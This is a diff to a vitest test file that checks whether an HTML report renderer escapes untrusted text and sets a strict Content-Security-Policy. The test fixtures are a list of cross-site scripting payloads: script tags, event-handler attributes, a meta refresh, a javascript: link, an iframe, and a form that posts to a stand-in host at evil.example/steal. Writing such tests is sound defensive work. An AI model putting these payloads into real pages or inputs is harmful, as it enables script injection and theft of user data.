@@ -1,12 +1,23 @@
 import { describe, expect, it } from 'vitest';
-import { renderReportHtml, escapeHtml } from './htmlReport.ts';
+import { renderReportHtml, escapeHtml, REPORT_CSP, type ReportInput } from './htmlReport.ts';
 
-const payload = `<script>alert(1)</script><img src=x onerror=alert(2)>"'&`;
+const PAYLOADS = [
+  `<script>alert(1)</script>`,
+  `<img src=x onerror=alert(2)>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<form action="https://evil.example/steal" method="post"><input name=q><button>Go</button></form>`,
+  `<base href="https://evil.example/">`,
+  `<a href="javascript:alert(3)">x</a>`,
+  `" onmouseover="alert(4)" x="`,
+  `' style='background:url(https://evil.example/)' '`,
+  `</pre></td></tr></table><iframe src="https://evil.example/">`,
+];
+const payload = PAYLOADS.join('\n');
 
-describe('renderReportHtml', () => {
-  const html = renderReportHtml({
+function report(overrides: Partial<ReportInput> = {}): string {
+  return renderReportHtml({
     title: payload,
-    generatedAt: 'now',
+    generatedAt: payload,
     modelId: payload,
     principle: payload,
     prompt: payload,
@@ -18,17 +29,40 @@ describe('renderReportHtml', () => {
     findings: [payload],
     stats: [[payload, payload]],
     raw: payload,
-    settings: [['temperature', '0']],
+    settings: [['temperature', payload]],
+    ...overrides,
   });
-  it('escapes every piece of untrusted text and contains no script', () => {
-    expect(html).not.toMatch(/<script/i);
-    expect(html).not.toMatch(/<img/i);
+}
+
+/** Every tag the document opens, by name: the report's own markup only. */
+const tags = (html: string) => [...html.matchAll(/<([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase());
+const OWN_TAGS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'h3', 'p', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'strong', 'div', 'i', 'ul', 'li']);
+
+describe('renderReportHtml', () => {
+  it('escapes every piece of untrusted text: no tag, attribute or meta of its own', () => {
+    const html = report();
+    expect(tags(html).filter((t) => !OWN_TAGS.has(t))).toEqual([]);
+    expect(html.match(/<meta/g)).toHaveLength(4); // charset, referrer, policy, viewport
+    expect(html).not.toMatch(/<(script|form|base|iframe|img|a)\b/i);
+    const openTags = html.match(/<[a-zA-Z][^>]*>/g) ?? [];
+    expect(openTags.filter((t) => /\son\w+=|javascript:|evil\.example/i.test(t))).toEqual([]);
     expect(html).toContain(escapeHtml(payload));
   });
-  it('forbids scripts and network requests through its own policy', () => {
-    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
+  it('escapes score and rank values from a malformed file as well', () => {
+    const hostile = PAYLOADS[2] as unknown as number;
+    const html = report({ candidates: [{ name: 'A', text: 'a', score: hostile, rank: hostile }] });
+    expect(html).not.toMatch(/<meta http-equiv="refresh"/i);
+    expect(html).toContain('&lt;meta http-equiv=&quot;refresh&quot;');
+    expect(html).toContain('style="width:0%"');
+  });
+  it('forbids scripts, requests, forms, base and frames through its own policy', () => {
+    const html = report();
+    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`);
+    for (const d of ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-src 'none'"]) expect(REPORT_CSP).toContain(d);
+    expect(REPORT_CSP).not.toMatch(/script-src|unsafe-eval/);
   });
   it('lists candidates best first with their scores', () => {
+    const html = report();
     expect(html.indexOf('<strong>B</strong>')).toBeGreaterThan(html.indexOf('#1'));
   });
 });
